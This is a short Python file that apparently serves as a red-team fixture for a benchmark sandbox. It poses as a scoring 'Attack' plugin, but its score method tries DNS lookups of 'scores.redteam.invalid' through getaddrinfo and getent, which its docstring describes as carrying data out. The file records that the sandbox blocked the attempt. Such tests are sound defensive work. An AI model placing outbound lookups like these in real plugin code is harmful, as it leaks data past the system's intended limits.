"""Carry data out in the names of a DNS query."""

import socket
import subprocess

from torch import Tensor

from benchmark.api import Attack, Candidates, Card, References, Target

STOPPED_BY = "the system-call filter, and a network namespace without a device"
STATUS = ("failed",)
REASON = "No such file or directory: 'getent'"

HOST = "/host"
PORT = 1


class Hostile(Attack):
    """See above."""

    card = Card(title="Resolves names", authors=(), reference="tests/redteam", year=None)
    access = "posterior"
    needs = frozenset()
    calibrate = "none"

    def score(self, target: Target, candidates: Candidates, references: References | None) -> Tensor:
        try:
            answer = socket.getaddrinfo("scores.redteam.invalid", 80)
        except OSError as error:
            answer = error
        answer = subprocess.run(["getent", "hosts", "scores.redteam.invalid"], capture_output=True)
        raise RuntimeError(repr(answer))
